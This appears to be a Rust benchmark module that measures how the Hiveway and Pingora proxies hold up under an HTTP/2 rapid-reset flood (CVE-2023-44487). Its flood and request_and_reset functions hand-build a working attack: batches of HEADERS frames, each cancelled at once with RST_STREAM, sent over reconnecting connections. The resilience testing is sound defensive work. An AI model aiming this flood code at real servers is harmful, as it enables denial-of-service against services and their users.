//! Whether clients notice a flood of HTTP/2 requests that are taken back at once (CVE-2023-44487), and what memory it takes.
//!
//! # Design notes
//!
//! The flood comes from a process of its own on the core of the load, pauses between its blows, and gives way to whoever else
//! wants that core: it would otherwise be the load that suffers, by waiting for its core. The clients are those of the open loop;
//! what they are answered by no flood is measured in the same round, so that only the difference is the flood's.
//!
//! A machine that stalls now and then adds to a window and takes nothing from it, so the best of the rounds is what counts; and
//! where no window keeps to the bar, with or without a flood, nothing is said of it.

use std::fmt::Write as _;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use anyhow::{Context, ensure};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{interval, sleep};

use crate::cli::Cli;
use crate::client::HOST;
use crate::load::Window;
use crate::measure::Bench;
use crate::peer::{self, Peer};
use crate::{directory, machine, process, report};

/// Connections that flood at once.
const FLOODERS: usize = 8;

/// Requests that are taken back in one blow.
const BLOW: usize = 200;

/// The pause of each flooder after a blow, and after it has lost its connection.
const PAUSE: Duration = Duration::from_millis(5);

/// Requests a second of the clients.
const RATE: u64 = 2_000;

/// What other clients' p99 may be (milliseconds), and by how much memory may grow (megabytes).
const P99: f64 = 10.0;
const GROWTH: f64 = 10.0;

/// One proxy with and without a flood, in each round.
struct Row {
    peer: Peer,
    calm: Vec<Window>,
    flooded: Vec<Window>,
    /// Requests that were taken back, in all rounds.
    taken_back: u64,
}

/// Measures Hiveway and bare Pingora.
pub(crate) async fn run(cli: &Cli) -> anyhow::Result<()> {
    process::raise_open_files();
    let mut plan = cli.plan();
    plan.rate = RATE;
    let machine = machine::description();
    let mut bench = Bench::start(&directory(), plan.clone()).await?;
    let row = |peer| Row {
        peer,
        calm: Vec::new(),
        flooded: Vec::new(),
        taken_back: 0,
    };
    let mut rows = [row(peer::hiveway()), row(peer::bare()?)];
    for round in 1..=plan.rounds {
        for row in &mut rows {
            row.calm.push(bench.open(&row.peer).await?);
            bench.begin_flood(FLOODERS)?;
            let flooded = bench.open(&row.peer).await;
            let log = bench.end_flood().await;
            let told = log.lines().last().and_then(|line| line.parse::<u64>().ok());
            let told = told.with_context(|| format!("the flood said {log:?}"))?;
            ensure!(told > 0, "the flood did not reach {}", row.peer.name);
            row.flooded.push(flooded?);
            row.taken_back += told;
            println!(
                "round {round} of {}: {:12} {told}",
                plan.rounds, row.peer.name
            );
        }
    }
    let mut text = format!(
        "{machine}; {} rounds of {} s, {RATE} requests a second by others (open loop), {FLOODERS} connections that flood; latencies of the best round, memory of \
         the worst.\n\n\
         | proxy | p99, calm (ms) | p99, flooded (ms) | p99.9, flooded (ms) | memory, calm (MB) | flooded (MB) | taken back |\n\
         |---|---|---|---|---|---|---|\n",
        plan.rounds, plan.seconds
    );
    for row in &rows {
        let calm = Figures::of(&row.calm).context("no round without a flood")?;
        let flooded = Figures::of(&row.flooded).context("no round with a flood")?;
        writeln!(
            text,
            "| {} | {:.2} | {:.2} | {:.2} | {:.1} | {:.1} | {} |",
            row.peer.name,
            calm.p99,
            flooded.p99,
            flooded.p999,
            calm.peak,
            flooded.peak,
            row.taken_back
        )?;
        if row.peer.name == peer::HIVEWAY {
            let met = |is: bool| if is { "met" } else { "missed" };
            let in_time = match (flooded.p99 < P99, calm.p99 < P99) {
                (false, false) => "not known, as it is not without a flood either",
                (in_time, _) => met(in_time),
            };
            let small = met(flooded.peak - calm.peak < GROWTH);
            let verdict = format!(
                "Targets for Hiveway: others' p99 under {P99} ms: **{in_time}**; memory grows by less than {GROWTH} MB: **{small}**. "
            );
            text.insert_str(0, &verdict);
        }
    }
    println!("\n{text}");
    if !cli.is_trial() {
        report::write(&cli.output, report::FLOOD, &text)?;
    }
    Ok(())
}

/// The best of the rounds.
struct Figures {
    p99: f64,
    p999: f64,
    peak: f64,
}

impl Figures {
    fn of(windows: &[Window]) -> Option<Self> {
        let latencies = || windows.iter().filter_map(|window| window.latency);
        let peaks = windows.iter().filter_map(|window| window.resident);
        Some(Self {
            p99: latencies().map(|it| it.p99).min_by(f64::total_cmp)?,
            p999: latencies().map(|it| it.p999).min_by(f64::total_cmp)?,
            // Memory does not stall.
            peak: peaks.map(|it| it.peak).max_by(f64::total_cmp)?,
        })
    }
}

/// Floods until the process is ended, and writes down every tenth of a second how many requests it has taken back.
pub(crate) async fn flood(target: SocketAddr, connections: usize) -> anyhow::Result<()> {
    static TAKEN_BACK: AtomicU64 = AtomicU64::new(0);
    rustix::process::nice(19).context("giving way to the load")?;
    let mut flooders = JoinSet::new();
    for _ in 0..connections {
        flooders.spawn(async move {
            loop {
                // Whether the proxy is not there yet or has had enough: the next connection is the answer.
                let _ = connection(target, &TAKEN_BACK).await;
                sleep(PAUSE).await;
            }
        });
    }
    let mut ticks = interval(Duration::from_millis(100));
    loop {
        ticks.tick().await;
        eprintln!("{}", TAKEN_BACK.load(Ordering::Relaxed));
    }
}

/// Floods on one connection until the proxy ends it.
async fn connection(target: SocketAddr, taken_back: &AtomicU64) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(target).await?;
    let (mut reader, mut writer) = stream.split();
    // The preface, and settings that ask for nothing.
    writer
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0")
        .await?;
    let attack = async {
        let mut number = 1;
        loop {
            let mut blow = Vec::new();
            for _ in 0..BLOW {
                request_and_reset(&mut blow, number);
                number += 2;
            }
            writer.write_all(&blow).await?;
            taken_back.fetch_add(BLOW as u64, Ordering::Relaxed);
            sleep(PAUSE).await;
        }
    };
    let listen = async {
        let mut said = [0; 4096];
        while reader.read(&mut said).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = attack => ended,
        ended = listen => ended,
    }
}

/// A whole request, and its end by RST_STREAM with the code CANCEL (RFC 9113, sections 6.2 and 6.4).
fn request_and_reset(bytes: &mut Vec<u8>, stream: u32) {
    let mut block = vec![0x82, 0x86, 0x84, 0x41];
    block.push(u8::try_from(HOST.len()).expect("a short host"));
    block.extend(HOST.bytes());
    let length = u32::try_from(block.len())
        .expect("a short head")
        .to_be_bytes();
    bytes.extend(&length[1..]);
    // HEADERS that end the head and the request.
    bytes.extend([0x01, 0x05]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(block);
    bytes.extend([0, 0, 4, 0x03, 0]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(8u32.to_be_bytes());
}
